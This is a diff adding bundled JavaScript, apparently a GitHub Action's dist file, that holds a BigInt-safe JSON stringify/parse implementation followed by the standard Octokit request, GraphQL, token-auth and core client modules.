+  const propertyList = Array.isArray(replacer)
+    ? new Set(replacer.map(String))
+    : null;
+
+  /**
+   * Prepares a value for stringification by resolving toJSON, handling BigInts,
+   * applying custom replacers, and unwrapping primitive objects.
+   *
+   * @param {object|Array} parent The parent object or array holding the value.
+   * @param {string} key The key associated with the value.
+   * @param {any} val The raw value to process.
+   * @returns {any} The processed value ready for stringification.
+   */
+  const prepareVal = (parent, key, val) => {
+    const isObject = val !== null && typeof val === "object";
+    const hasToJSON = isObject && typeof val.toJSON === "function";
+
+    if (hasToJSON) {
+      val = val.toJSON(key);
+    }
+
+    const isNoise = typeof val === "string" && noiseValue.test(val);
+
+    if (isNoise) return val + "n";
+
+    const isBigInt = typeof val === "bigint";
+
+    if (isBigInt) {
+      const supportsRawJSON = "rawJSON" in JSON;
+
+      if (supportsRawJSON) return JSON.rawJSON(val.toString());
+
+      return val.toString() + "n";
+    }
+
+    if (isFunctionReplacer) {
+      val = replacer.call(parent, key, val);
+    }
+
+    const isPostReplacerObject = val !== null && typeof val === "object";
+
+    if (isPostReplacerObject) {
+      const isPrimitiveWrapper =
+        val instanceof Number ||
+        val instanceof String ||
+        val instanceof Boolean;
+
+      if (isPrimitiveWrapper) {
+        val = val.valueOf();
+      }
+    }
+
+    return val;
+  };
+
+  const rootProcessed = prepareVal({ "": rootValue }, "", rootValue);
+
+  if (isUnstringifiable(rootProcessed)) {
+    return undefined;
+  }
+
+  const isRootPrimitive =
+    rootProcessed === null || typeof rootProcessed !== "object";
+  const isRootNativeRawJSON = isRawJSON(rootProcessed);
+
+  if (isRootPrimitive || isRootNativeRawJSON) {
+    return originalStringify(rootProcessed);
+  }
+
+  const chunks = [];
+  let level = 0;
+
+  const stack = [
+    {
+      parent: { "": rootProcessed },
+      key: "",
+      val: rootProcessed,
+      isArray: Array.isArray(rootProcessed),
+      keys: Array.isArray(rootProcessed) ? null : Object.keys(rootProcessed),
+      index: 0,
+      first: true,
+    },
+  ];
+
+  const visited = new WeakSet([rootProcessed]);
+
+  while (stack.length > 0) {
+    const node = stack[stack.length - 1];
+
+    if (node.index === 0) {
+      chunks.push(node.isArray ? "[" : "{");
+      level++;
+    }
+
+    let isDone = false;
+
+    if (node.isArray) {
+      if (node.index < node.val.length) {
+        if (!node.first) chunks.push(",");
+
+        if (space) chunks.push("\n" + space.repeat(level));
+
+        const childRaw = node.val[node.index];
+        const childVal = prepareVal(node.val, String(node.index), childRaw);
+
+        if (isUnstringifiable(childVal)) {
+          chunks.push("null");
+          node.first = false;
+          node.index++;
+        } else {
+          const isComplexObject =
+            childVal !== null && typeof childVal === "object";
+          const isNativeRaw = isRawJSON(childVal);
+
+          if (isComplexObject && !isNativeRaw) {
+            if (visited.has(childVal)) {
+              throw new TypeError("Converting circular structure to JSON");
+            }
+
+            visited.add(childVal);
+
+            stack.push({
+              parent: node.val,
+              key: String(node.index),
+              val: childVal,
+              isArray: Array.isArray(childVal),
+              keys: Array.isArray(childVal) ? null : Object.keys(childVal),
+              index: 0,
+              first: true,
+            });
+
+            node.first = false;
+            node.index++;
+          } else {
+            chunks.push(originalStringify(childVal));
+            node.first = false;
+            node.index++;
+          }
+        }
+      } else {
+        isDone = true;
+      }
+    } else {
+      while (node.index < node.keys.length) {
+        const k = node.keys[node.index++];
+
+        const isFilteredOutByArray = propertyList && !propertyList.has(k);
+
+        if (isFilteredOutByArray) continue;
+
+        const childRaw = node.val[k];
+        const childVal = prepareVal(node.val, k, childRaw);
+
+        if (isUnstringifiable(childVal)) continue;
+
+        if (!node.first) chunks.push(",");
+
+        if (space) {
+          chunks.push("\n" + space.repeat(level) + originalStringify(k) + ": ");
+        } else {
+          chunks.push(originalStringify(k) + ":");
+        }
+
+        const isComplexObject =
+          childVal !== null && typeof childVal === "object";
+        const isNativeRaw = isRawJSON(childVal);
+
+        if (isComplexObject && !isNativeRaw) {
+          if (visited.has(childVal)) {
+            throw new TypeError("Converting circular structure to JSON");
+          }
+
+          visited.add(childVal);
+
+          stack.push({
+            parent: node.val,
+            key: k,
+            val: childVal,
+            isArray: Array.isArray(childVal),
+            keys: Array.isArray(childVal) ? null : Object.keys(childVal),
+            index: 0,
+            first: true,
+          });
+
+          node.first = false;
+
+          break; // Stop current loop level to process the newly pushed stack node
+        } else {
+          chunks.push(originalStringify(childVal));
+          node.first = false;
+        }
+      }
+
+      const isNodeFullyProcessed =
+        node.index >= node.keys.length && stack[stack.length - 1] === node;
+
+      if (isNodeFullyProcessed) {
+        isDone = true;
+      }
+    }
+
+    if (isDone) {
+      level--;
+
+      if (!node.first && space) chunks.push("\n" + space.repeat(level));
+
+      chunks.push(node.isArray ? "]" : "}");
+      visited.delete(node.val);
+      stack.pop();
+    }
+  }
+
+  return chunks.join("");
+};
+
+/**
+ * Converts a JavaScript value to a JSON string.
+ *
+ * Supports serialization of BigInt values using two strategies:
+ * 1. Custom format "123n" → "123" (universal fallback)
+ * 2. Native JSON.rawJSON() (Node.js 22+, fastest) when available
+ *
+ * All other values are serialized exactly like native JSON.stringify().
+ *
+ * @param {*} value The value to convert to a JSON string.
+ * @param {Replacer | Array<string | number> | null} [replacer]
+ * A function that alters the behavior of the stringification process,
+ * or an array of strings/numbers to indicate properties to exclude.
+ * @param {string | number} [space]
+ * A string or number to specify indentation or pretty-printing.
+ * @returns {string} The JSON string representation.
+ */
+const JSONStringify = (value, replacer, space) => {
+  try {
+    const supportsRawJSON = "rawJSON" in JSON;
+
+    if (supportsRawJSON) {
+      return originalStringify(
+        value,
+        (key, val) => {
+          if (typeof val === "bigint") return JSON.rawJSON(val.toString());
+
+          const hasFunctionReplacer = typeof replacer === "function";
+
+          if (hasFunctionReplacer) return replacer(key, val);
+
+          const isKeyInArrayReplacer =
+            Array.isArray(replacer) && replacer.includes(key);
+
+          if (isKeyInArrayReplacer) return val;
+
+          return val;
+        },
+        space,
+      );
+    }
+
+    if (!value) return originalStringify(value, replacer, space);
+
+    const convertedToCustomJSON = originalStringify(
+      value,
+      (key, val) => {
+        const isNoise = typeof val === "string" && noiseValue.test(val);
+
+        if (isNoise) return val.toString() + "n"; // Mark noise values with additional "n" to offset the deletion of one "n" during the processing
+
+        if (typeof val === "bigint") return val.toString() + "n";
+
+        const hasFunctionReplacer = typeof replacer === "function";
+
+        if (hasFunctionReplacer) return replacer(key, val);
+
+        const isKeyInArrayReplacer =
+          Array.isArray(replacer) && replacer.includes(key);
+
+        if (isKeyInArrayReplacer) return val;
+
+        return val;
+      },
+      space,
+    );
+
+    const processedJSON = convertedToCustomJSON.replace(
+      bigIntsStringify,
+      "$1$2$3",
+    ); // Delete one "n" off the end of every BigInt value
+
+    const denoisedJSON = processedJSON.replace(noiseStringify, "$1$2$3"); // Remove one "n" off the end of every noisy string
+
+    return denoisedJSON;
+  } catch (error) {
+    if (error instanceof RangeError) {
+      const convertedJSON = stringifyIteratively(value, replacer, space);
+
+      if (convertedJSON === undefined) return undefined;
+
+      const supportsRawJSON = "rawJSON" in JSON;
+
+      if (supportsRawJSON) return convertedJSON;
+
+      const processedJSON = convertedJSON.replace(bigIntsStringify, "$1$2$3");
+
+      return processedJSON.replace(noiseStringify, "$1$2$3");
+    }
+
+    throw error;
+  }
+};
+
+const featureCache = new Map();
+
+/**
+ * Detects if the current JSON.parse implementation supports the context.source feature.
+ *
+ * Uses toString() fingerprinting to cache results and automatically detect runtime
+ * replacements of JSON.parse (polyfills, mocks, etc.).
+ *
+ * @returns {boolean} true if context.source is supported, false otherwise.
+ */
+const isContextSourceSupported = () => {
+  const parseFingerprint = JSON.parse.toString();
+
+  if (featureCache.has(parseFingerprint)) {
+    return featureCache.get(parseFingerprint);
+  }
+
+  try {
+    const result = JSON.parse(
+      "1",
+      (_, __, context) => !!context?.source && context.source === "1",
+    );
+    featureCache.set(parseFingerprint, result);
+
+    return result;
+  } catch {
+    featureCache.set(parseFingerprint, false);
+
+    return false;
+  }
+};
+
+/**
+ * Reviver function that converts custom-format BigInt strings back to BigInt values.
+ * Also handles "noise" strings that accidentally match the BigInt format.
+ *
+ * @param {string | number | undefined} key The object key.
+ * @param {*} value The value being parsed.
+ * @param {object} [context] Parse context (if supported by JSON.parse).
+ * @param {Reviver} [userReviver] User's custom reviver function.
+ * @returns {any} The transformed value.
+ */
+const convertMarkedBigIntsReviver = (key, value, context, userReviver) => {
+  const isCustomFormatBigInt =
+    typeof value === "string" && customFormat.test(value);
+
+  if (isCustomFormatBigInt) return BigInt(value.slice(0, -1));
+
+  const isNoiseValue = typeof value === "string" && noiseValue.test(value);
+  if (isNoiseValue) return value.slice(0, -1);
+
+  const hasUserReviver = typeof userReviver === "function";
+
+  if (!hasUserReviver) return value;
+
+  return userReviver(key, value, context);
+};
+
+/**
+ * Fast JSON.parse implementation (~2x faster than classic fallback).
+ * Uses JSON.parse's context.source feature to detect integers and convert
+ * large numbers directly to BigInt without string manipulation.
+ *
+ * Does not support legacy custom format from v1 of this library.
+ *
+ * @param {string} text JSON string to parse.
+ * @param {Reviver} [reviver] Transform function to apply to each value.
+ * @returns {any} Parsed JavaScript value.
+ */
+const JSONParseV2 = (text, reviver) => {
+  return JSON.parse(text, (key, value, context) => {
+    const isNumber = typeof value === "number";
+    const isOutOfBounds =
+      value > Number.MAX_SAFE_INTEGER || value < Number.MIN_SAFE_INTEGER;
+    const isBigNumber = isNumber && isOutOfBounds;
+    const isInt = context && intRegex.test(context.source);
+    const isBigInt = isBigNumber && isInt;
+
+    if (isBigInt) return BigInt(context.source);
+
+    const hasCustomReviver = typeof reviver === "function";
+
+    if (!hasCustomReviver) return value;
+
+    return reviver(key, value, context);
+  });
+};
+
+const MAX_INT = Number.MAX_SAFE_INTEGER.toString();
+const MAX_DIGITS = MAX_INT.length;
+const stringsOrLargeNumbers =
+  /"(?:[^"\\]|\\.)*"|-?(0|[1-9][0-9]*)(\.[0-9]+)?([eE][+-]?[0-9]+)?/g;
+const noiseValueWithQuotes = /^"-?\d+n+"$/; // Noise - strings that match the custom format before being converted to it
+
+/**
+ * Iteratively traverses the parsed object bottom-up (post-order),
+ * emulating the native JSON.parse reviver behavior.
+ * This avoids Call Stack overflows (RangeError) on deeply nested structures.
+ *
+ * @param {any} parsed The natively parsed JSON object.
+ * @param {Reviver} [userReviver] User's custom reviver function.
+ * @returns {any} The fully processed object.
+ */
+const applyReviverIteratively = (parsed, userReviver) => {
+  const rootHolder = { "": parsed };
+  const stack = [{ parent: rootHolder, key: "", visited: false }];
+
+  while (stack.length > 0) {
+    const node = stack[stack.length - 1];
+
+    if (!node.visited) {
+      node.visited = true;
+
+      const value = node.parent[node.key];
+      const isComplexObject = value !== null && typeof value === "object";
+
+      if (isComplexObject) {
+        const keys = Object.keys(value);
+
+        for (let i = keys.length - 1; i >= 0; i--) {
+          stack.push({ parent: value, key: keys[i], visited: false });
+        }
+      }
+    } else {
+      const { parent, key } = node;
+      let value = parent[key];
+
+      if (typeof value === "string") {
+        const isCustomFormatBigInt = customFormat.test(value);
+
+        if (isCustomFormatBigInt) {
+          value = BigInt(value.slice(0, -1));
+        } else {
+          const isNoise = noiseValue.test(value);
+
+          if (isNoise) value = value.slice(0, -1);
+        }
+      }
+
+      const hasUserReviver = typeof userReviver === "function";
+
+      if (hasUserReviver) {
+        value = userReviver.call(parent, key, value);
+      }
+
+      const isDeleted = value === undefined;
+
+      if (isDeleted) {
+        delete parent[key];
+      } else {
+        parent[key] = value;
+      }
+
+      stack.pop();
+    }
+  }
+
+  return rootHolder[""];
+};
+
+/**
+ * Pre-processes the JSON string to mark large numbers with an 'n' suffix.
+ *
+ * @param {string} text The raw JSON string.
+ * @returns {string} The serialized string with marked BigInts.
+ */
+const serializeBigInts = (text) => {
+  return text.replace(
+    stringsOrLargeNumbers,
+    (match, digits, fractional, exponential) => {
+      const isString = match[0] === '"';
+      const isNoise = isString && noiseValueWithQuotes.test(match);
+
+      if (isNoise) return match.substring(0, match.length - 1) + 'n"'; // Mark noise values with additional "n" to offset the deletion of one "n" during the processing
+
+      const hasFractionalOrExponential = fractional || exponential;
+
+      // With a fixed number of digits, we can correctly use lexicographical comparison to do a numeric comparison
+      const isLessThanMaxSafeInt =
+        digits &&
+        (digits.length < MAX_DIGITS ||
+          (digits.length === MAX_DIGITS && digits <= MAX_INT));
+
+      const isStandardValue =
+        isString || hasFractionalOrExponential || isLessThanMaxSafeInt;
+
+      if (isStandardValue) return match;
+
+      return '"' + match + 'n"';
+    },
+  );
+};
+
+/**
+ * Converts a JSON string into a JavaScript value.
+ *
+ * Supports parsing of large integers using two strategies:
+ * 1. Classic fallback: Marks large numbers with "123n" format, then converts to BigInt
+ * 2. Fast path (JSONParseV2): Uses context.source feature (~2x faster) when available
+ *
+ * All other JSON values are parsed exactly like native JSON.parse().
+ *
+ * @param {string} text A valid JSON string.
+ * @param {Reviver} [reviver]
+ * A function that transforms the results. This function is called for each member
+ * of the object. If a member contains nested objects, the nested objects are
+ * transformed before the parent object is.
+ * @returns {any} The parsed JavaScript value.
+ * @throws {SyntaxError} If text is not valid JSON.
+ */
+const JSONParse = (text, reviver) => {
+  if (!text) return originalParse(text, reviver);
+
+  try {
+    if (isContextSourceSupported()) return JSONParseV2(text, reviver); // Shortcut to a faster (2x) and simpler version
+
+    // Find and mark big numbers with "n"
+    const serializedData = serializeBigInts(text);
+
+    return originalParse(serializedData, (key, value, context) =>
+      convertMarkedBigIntsReviver(key, value, context, reviver),
+    );
+  } catch (error) {
+    if (error instanceof RangeError) {
+      const serializedData = serializeBigInts(text);
+      const parsed = originalParse(serializedData);
+
+      return applyReviverIteratively(parsed, reviver);
+    }
+
+    throw error;
+  }
+};
+
+
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/request-error/dist-src/index.js
+class RequestError extends Error {
+  name;
+  /**
+   * http status code
+   */
+  status;
+  /**
+   * Request options that lead to the error.
+   */
+  request;
+  /**
+   * Response object if a response was received
+   */
+  response;
+  constructor(message, statusCode, options) {
+    super(message, { cause: options.cause });
+    this.name = "HttpError";
+    this.status = Number.parseInt(statusCode);
+    if (Number.isNaN(this.status)) {
+      this.status = 0;
+    }
+    /* v8 ignore else -- @preserve -- Bug with vitest coverage where it sees an else branch that doesn't exist */
+    if ("response" in options) {
+      this.response = options.response;
+    }
+    const requestCopy = Object.assign({}, options.request);
+    if (options.request.headers.authorization) {
+      requestCopy.headers = Object.assign({}, options.request.headers, {
+        authorization: options.request.headers.authorization.replace(
+          /(?<! ) .*$/,
+          " [REDACTED]"
+        )
+      });
+    }
+    requestCopy.url = requestCopy.url.replace(/\bclient_secret=\w+/g, "client_secret=[REDACTED]").replace(/\baccess_token=\w+/g, "access_token=[REDACTED]");
+    this.request = requestCopy;
+  }
+}
+
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/request/dist-bundle/index.js
+// pkg/dist-src/index.js
+
+
+// pkg/dist-src/defaults.js
+
+
+// pkg/dist-src/version.js
+var dist_bundle_VERSION = "10.0.16";
+
+// pkg/dist-src/defaults.js
+var defaults_default = {
+  headers: {
+    "user-agent": `octokit-request.js/${dist_bundle_VERSION} ${getUserAgent()}`
+  }
+};
+
+// pkg/dist-src/fetch-wrapper.js
+
+
+
+// pkg/dist-src/is-plain-object.js
+function dist_bundle_isPlainObject(value) {
+  if (typeof value !== "object" || value === null) return false;
+  if (Object.prototype.toString.call(value) !== "[object Object]") return false;
+  const proto = Object.getPrototypeOf(value);
+  if (proto === null) return true;
+  const Ctor = Object.prototype.hasOwnProperty.call(proto, "constructor") && proto.constructor;
+  return typeof Ctor === "function" && Ctor instanceof Ctor && Function.prototype.call(Ctor) === Function.prototype.call(value);
+}
+
+// pkg/dist-src/fetch-wrapper.js
+
+var noop = () => "";
+async function fetchWrapper(requestOptions) {
+  const fetch = requestOptions.request?.fetch || globalThis.fetch;
+  if (!fetch) {
+    throw new Error(
+      "fetch is not set. Please pass a fetch implementation as new Octokit({ request: { fetch }}). Learn more at https://github.com/octokit/octokit.js/#fetch-missing"
+    );
+  }
+  const log = requestOptions.request?.log || console;
+  const parseSuccessResponseBody = requestOptions.request?.parseSuccessResponseBody !== false;
+  const body = dist_bundle_isPlainObject(requestOptions.body) || Array.isArray(requestOptions.body) ? JSONStringify(requestOptions.body) : requestOptions.body;
+  const requestHeaders = Object.fromEntries(
+    Object.entries(requestOptions.headers).map(([name, value]) => [
+      name,
+      String(value)
+    ])
+  );
+  let fetchResponse;
+  try {
+    fetchResponse = await fetch(requestOptions.url, {
+      method: requestOptions.method,
+      body,
+      redirect: requestOptions.request?.redirect,
+      headers: requestHeaders,
+      signal: requestOptions.request?.signal,
+      // duplex must be set if request.body is ReadableStream or Async Iterables.
+      // See https://fetch.spec.whatwg.org/#dom-requestinit-duplex.
+      ...requestOptions.body && { duplex: "half" }
+    });
+  } catch (error) {
+    let message = "Unknown Error";
+    if (error instanceof Error) {
+      if (error.name === "AbortError") {
+        error.status = 500;
+        throw error;
+      }
+      message = error.message;
+      if (error.name === "TypeError" && "cause" in error) {
+        if (error.cause instanceof Error) {
+          message = error.cause.message;
+        } else if (typeof error.cause === "string") {
+          message = error.cause;
+        }
+      }
+    }
+    const requestError = new RequestError(message, 500, {
+      request: requestOptions
+    });
+    requestError.cause = error;
+    throw requestError;
+  }
+  const status = fetchResponse.status;
+  const url = fetchResponse.url;
+  const responseHeaders = {};
+  for (const [key, value] of fetchResponse.headers) {
+    responseHeaders[key] = value;
+  }
+  const octokitResponse = {
+    url,
+    status,
+    headers: responseHeaders,
+    data: ""
+  };
+  if ("deprecation" in responseHeaders) {
+    const matches = responseHeaders.link && responseHeaders.link.match(/<([^<>]+)>; rel="deprecation"/);
+    const deprecationLink = matches && matches.pop();
+    log.warn(
+      `[@octokit/request] "${requestOptions.method} ${requestOptions.url}" is deprecated. It is scheduled to be removed on ${responseHeaders.sunset}${deprecationLink ? `. See ${deprecationLink}` : ""}`
+    );
+  }
+  if (status === 204 || status === 205) {
+    return octokitResponse;
+  }
+  if (requestOptions.method === "HEAD") {
+    if (status < 400) {
+      return octokitResponse;
+    }
+    throw new RequestError(fetchResponse.statusText, status, {
+      response: octokitResponse,
+      request: requestOptions
+    });
+  }
+  if (status === 304) {
+    octokitResponse.data = await getResponseData(fetchResponse);
+    throw new RequestError("Not modified", status, {
+      response: octokitResponse,
+      request: requestOptions
+    });
+  }
+  if (status >= 400) {
+    octokitResponse.data = await getResponseData(fetchResponse);
+    throw new RequestError(toErrorMessage(octokitResponse.data), status, {
+      response: octokitResponse,
+      request: requestOptions
+    });
+  }
+  octokitResponse.data = parseSuccessResponseBody ? await getResponseData(fetchResponse) : fetchResponse.body;
+  return octokitResponse;
+}
+async function getResponseData(response) {
+  const contentType = response.headers.get("content-type");
+  if (!contentType) {
+    return response.text().catch(noop);
+  }
+  const mimetype = dist_parse(contentType);
+  if (isJSONResponse(mimetype)) {
+    let text = "";
+    try {
+      text = await response.text();
+      return JSONParse(text);
+    } catch (err) {
+      return text;
+    }
+  } else if (mimetype.type.startsWith("text/") || // `application/octet-stream` is the canonical "arbitrary binary" type
+  // (RFC 2046) and must never be decoded as text, even when the response
+  // carries a (misleading) `charset=utf-8` parameter — see #751.
+  mimetype.parameters.charset?.toLowerCase() === "utf-8" && mimetype.type !== "application/octet-stream") {
+    return response.text().catch(noop);
+  } else {
+    return response.arrayBuffer().catch(
+      /* v8 ignore next -- @preserve */
+      () => new ArrayBuffer(0)
+    );
+  }
+}
+function isJSONResponse(mimetype) {
+  return mimetype.type === "application/json" || mimetype.type === "application/scim+json";
+}
+function toErrorMessage(data) {
+  if (typeof data === "string") {
+    return data;
+  }
+  if (data instanceof ArrayBuffer) {
+    return "Unknown error";
+  }
+  if (typeof data === "object" && data !== null && "message" in data) {
+    const objectData = data;
+    const suffix = "documentation_url" in objectData ? ` - ${objectData.documentation_url}` : "";
+    return Array.isArray(objectData.errors) ? `${objectData.message}: ${objectData.errors.map((v) => JSON.stringify(v)).join(", ")}${suffix}` : `${objectData.message}${suffix}`;
+  }
+  return `Unknown error: ${JSON.stringify(data)}`;
+}
+
+// pkg/dist-src/with-defaults.js
+function dist_bundle_withDefaults(oldEndpoint, newDefaults) {
+  const endpoint2 = oldEndpoint.defaults(newDefaults);
+  const newApi = function(route, parameters) {
+    const endpointOptions = endpoint2.merge(route, parameters);
+    if (!endpointOptions.request || !endpointOptions.request.hook) {
+      return fetchWrapper(endpoint2.parse(endpointOptions));
+    }
+    const request2 = (route2, parameters2) => {
+      return fetchWrapper(
+        endpoint2.parse(endpoint2.merge(route2, parameters2))
+      );
+    };
+    Object.assign(request2, {
+      endpoint: endpoint2,
+      defaults: dist_bundle_withDefaults.bind(null, endpoint2)
+    });
+    return endpointOptions.request.hook(request2, endpointOptions);
+  };
+  return Object.assign(newApi, {
+    endpoint: endpoint2,
+    defaults: dist_bundle_withDefaults.bind(null, endpoint2)
+  });
+}
+
+// pkg/dist-src/index.js
+var request = dist_bundle_withDefaults(endpoint, defaults_default);
+
+/* v8 ignore next -- @preserve */
+/* v8 ignore else -- @preserve */
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/graphql/dist-bundle/index.js
+// pkg/dist-src/index.js
+
+
+
+// pkg/dist-src/version.js
+var graphql_dist_bundle_VERSION = "0.0.0-development";
+
+// pkg/dist-src/with-defaults.js
+
+
+// pkg/dist-src/graphql.js
+
+
+// pkg/dist-src/error.js
+function _buildMessageForResponseErrors(data) {
+  return `Request failed due to following response errors:
+` + data.errors.map((e) => ` - ${e.message}`).join("\n");
+}
+var GraphqlResponseError = class extends Error {
+  constructor(request2, headers, response) {
+    super(_buildMessageForResponseErrors(response));
+    this.request = request2;
+    this.headers = headers;
+    this.response = response;
+    this.errors = response.errors;
+    this.data = response.data;
+    if (Error.captureStackTrace) {
+      Error.captureStackTrace(this, this.constructor);
+    }
+  }
+  request;
+  headers;
+  response;
+  name = "GraphqlResponseError";
+  errors;
+  data;
+};
+
+// pkg/dist-src/graphql.js
+var NON_VARIABLE_OPTIONS = [
+  "method",
+  "baseUrl",
+  "url",
+  "headers",
+  "request",
+  "query",
+  "mediaType",
+  "operationName"
+];
+var FORBIDDEN_VARIABLE_OPTIONS = ["query", "method", "url"];
+var GHES_V3_SUFFIX_REGEX = /\/api\/v3\/?$/;
+function graphql(request2, query, options) {
+  if (options) {
+    if (typeof query === "string" && "query" in options) {
+      return Promise.reject(
+        new Error(`[@octokit/graphql] "query" cannot be used as variable name`)
+      );
+    }
+    for (const key in options) {
+      if (!FORBIDDEN_VARIABLE_OPTIONS.includes(key)) continue;
+      return Promise.reject(
+        new Error(
+          `[@octokit/graphql] "${key}" cannot be used as variable name`
+        )
+      );
+    }
+  }
+  const parsedOptions = typeof query === "string" ? Object.assign({ query }, options) : query;
+  const requestOptions = Object.keys(
+    parsedOptions
+  ).reduce((result, key) => {
+    if (NON_VARIABLE_OPTIONS.includes(key)) {
+      result[key] = parsedOptions[key];
+      return result;
+    }
+    if (!result.variables) {
+      result.variables = {};
+    }
+    result.variables[key] = parsedOptions[key];
+    return result;
+  }, {});
+  const baseUrl = parsedOptions.baseUrl || request2.endpoint.DEFAULTS.baseUrl;
+  if (GHES_V3_SUFFIX_REGEX.test(baseUrl)) {
+    requestOptions.url = baseUrl.replace(GHES_V3_SUFFIX_REGEX, "/api/graphql");
+  }
+  return request2(requestOptions).then((response) => {
+    if (response.data.errors) {
+      const headers = {};
+      for (const key of Object.keys(response.headers)) {
+        headers[key] = response.headers[key];
+      }
+      throw new GraphqlResponseError(
+        requestOptions,
+        headers,
+        response.data
+      );
+    }
+    return response.data.data;
+  });
+}
+
+// pkg/dist-src/with-defaults.js
+function graphql_dist_bundle_withDefaults(request2, newDefaults) {
+  const newRequest = request2.defaults(newDefaults);
+  const newApi = (query, options) => {
+    return graphql(newRequest, query, options);
+  };
+  return Object.assign(newApi, {
+    defaults: graphql_dist_bundle_withDefaults.bind(null, newRequest),
+    endpoint: newRequest.endpoint
+  });
+}
+
+// pkg/dist-src/index.js
+var graphql2 = graphql_dist_bundle_withDefaults(request, {
+  headers: {
+    "user-agent": `octokit-graphql.js/${graphql_dist_bundle_VERSION} ${getUserAgent()}`
+  },
+  method: "POST",
+  url: "/graphql"
+});
+function withCustomRequest(customRequest) {
+  return graphql_dist_bundle_withDefaults(customRequest, {
+    method: "POST",
+    url: "/graphql"
+  });
+}
+
+/* v8 ignore if -- @preserve */
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/auth-token/dist-bundle/index.js
+// pkg/dist-src/is-jwt.js
+var b64url = "(?:[a-zA-Z0-9_-]+)";
+var sep = "\\.";
+var jwtRE = new RegExp(`^${b64url}${sep}${b64url}${sep}${b64url}$`);
+var isJWT = jwtRE.test.bind(jwtRE);
+
+// pkg/dist-src/auth.js
+async function auth(token) {
+  const isApp = isJWT(token);
+  const isInstallation = token.startsWith("v1.") || token.startsWith("ghs_");
+  const isUserToServer = token.startsWith("ghu_");
+  const tokenType = isApp ? "app" : isInstallation ? "installation" : isUserToServer ? "user-to-server" : "oauth";
+  return {
+    type: "token",
+    token,
+    tokenType
+  };
+}
+
+// pkg/dist-src/with-authorization-prefix.js
+function withAuthorizationPrefix(token) {
+  if (token.split(/\./).length === 3) {
+    return `bearer ${token}`;
+  }
+  return `token ${token}`;
+}
+
+// pkg/dist-src/hook.js
+async function hook(token, request, route, parameters) {
+  const endpoint = request.endpoint.merge(
+    route,
+    parameters
+  );
+  endpoint.headers.authorization = withAuthorizationPrefix(token);
+  return request(endpoint);
+}
+
+// pkg/dist-src/index.js
+var createTokenAuth = function createTokenAuth2(token) {
+  if (!token) {
+    throw new Error("[@octokit/auth-token] No token passed to createTokenAuth");
+  }
+  if (typeof token !== "string") {
+    throw new Error(
+      "[@octokit/auth-token] Token passed to createTokenAuth is not a string"
+    );
+  }
+  token = token.replace(/^(token|bearer) +/i, "");
+  return Object.assign(auth.bind(null, token), {
+    hook: hook.bind(null, token)
+  });
+};
+
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/core/dist-src/version.js
+const version_VERSION = "7.0.8";
+
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/core/dist-src/index.js
+
+
+
+
+
+
+const dist_src_noop = () => {
+};
+const consoleWarn = console.warn.bind(console);
+const consoleError = console.error.bind(console);
+function createLogger(logger = {}) {
+  if (typeof logger.debug !== "function") {
+    logger.debug = dist_src_noop;
+  }
+  if (typeof logger.info !== "function") {
+    logger.info = dist_src_noop;
+  }
+  if (typeof logger.warn !== "function") {
+    logger.warn = consoleWarn;
+  }
+  if (typeof logger.error !== "function") {
+    logger.error = consoleError;
+  }
+  return logger;
+}
+const userAgentTrail = `octokit-core.js/${version_VERSION} ${getUserAgent()}`;
+class Octokit {
+  static VERSION = version_VERSION;
+  static defaults(defaults) {
+    const OctokitWithDefaults = class extends this {
+      constructor(...args) {
+        const options = args[0] || {};
+        if (typeof defaults === "function") {
+          super(defaults(options));
+          return;
+        }
+        super(
+          Object.assign(
+            {},
+            defaults,
+            options,
+            options.userAgent && defaults.userAgent ? {
+              userAgent: `${options.userAgent} ${defaults.userAgent}`
+            } : null
+          )
+        );
+      }
+    };
+    return OctokitWithDefaults;
+  }
+  static plugins = [];
+  /**
+   * Attach a plugin (or many) to your Octokit instance.
+   *
+   * @example
+   * const API = Octokit.plugin(plugin1, plugin2, plugin3, ...)
+   */
+  static plugin(...newPlugins) {
+    const currentPlugins = this.plugins;
+    const NewOctokit = class extends this {
+      static plugins = currentPlugins.concat(
+        newPlugins.filter((plugin) => !currentPlugins.includes(plugin))
+      );
+    };
+    return NewOctokit;
+  }
+  constructor(options = {}) {
+    const hook = new before_after_hook.Collection();
+    const requestDefaults = {
+      baseUrl: request.endpoint.DEFAULTS.baseUrl,
+      headers: {},
+      request: Object.assign({}, options.request, {
+        // @ts-ignore internal usage only, no need to type
+        hook: hook.bind(null, "request")
+      }),
+      mediaType: {
+        previews: [],
+        format: ""
+      }
+    };
+    requestDefaults.headers["user-agent"] = options.userAgent ? `${options.userAgent} ${userAgentTrail}` : userAgentTrail;
+    if (options.baseUrl) {
+      requestDefaults.baseUrl = options.baseUrl;
+    }
+    if (options.previews) {
+      requestDefaults.mediaType.previews = options.previews;
+    }
+    if (options.timeZone) {
+      requestDefaults.headers["time-zone"] = options.timeZone;
+    }
+    this.request = request.defaults(requestDefaults);
+    this.graphql = withCustomRequest(this.request).defaults(requestDefaults);
+    this.log = createLogger(options.log);
+    this.hook = hook;
+    if (!options.authStrategy) {
+      if (!options.auth) {
+        this.auth = async () => ({
+          type: "unauthenticated"
+        });
+      } else {
+        const auth = createTokenAuth(options.auth);
+        hook.wrap("request", auth.hook);
+        this.auth = auth;
+      }
+    } else {
+      const { authStrategy, ...otherOptions } = options;
+      const auth = authStrategy(
+        Object.assign(
+          {
+            request: this.request,
+            log: this.log,
+            // we pass the current octokit instance as well as its constructor options
+            // to allow for authentication strategies that return a new octokit instance
+            // that shares the same internal state as the current one. The original
+            // requirement for this was the "event-octokit" authentication strategy
+            // of https://github.com/probot/octokit-auth-probot.
+            octokit: this,
+            octokitOptions: otherOptions
+          },
+          options.auth
+        )
+      );
+      hook.wrap("request", auth.hook);
+      this.auth = auth;
+    }
+    const classConstructor = this.constructor;
+    for (let i = 0; i < classConstructor.plugins.length; ++i) {
+      Object.assign(this, classConstructor.plugins[i](this, options));
+    }
+  }
+  // assigned during constructor
+  request;
+  graphql;
+  log;
+  hook;
+  // TODO: type `octokit.auth` based on passed options.authStrategy
+  auth;
+}
+
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/plugin-rest-endpoint-methods/dist-src/version.js
+const dist_src_version_VERSION = "17.0.0";
+
+//# sourceMappingURL=version.js.map
+
